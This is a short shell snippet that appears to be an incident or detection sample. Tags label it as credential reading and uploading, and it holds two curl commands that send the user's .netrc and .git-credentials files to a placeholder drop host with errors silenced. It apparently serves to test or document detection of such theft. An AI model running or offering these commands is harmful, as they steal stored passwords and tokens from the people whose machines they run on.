# incident: thieves without a tool of their own (2023): curl itself reads the passwords and sends them
# finding: credential-uploaded, credential-read
# needs: curl
curl -s --data-binary "@$HOME/.netrc" "http://$DROP/n" || true
curl -s -T "$HOME/.git-credentials" "http://$DROP/g" || true
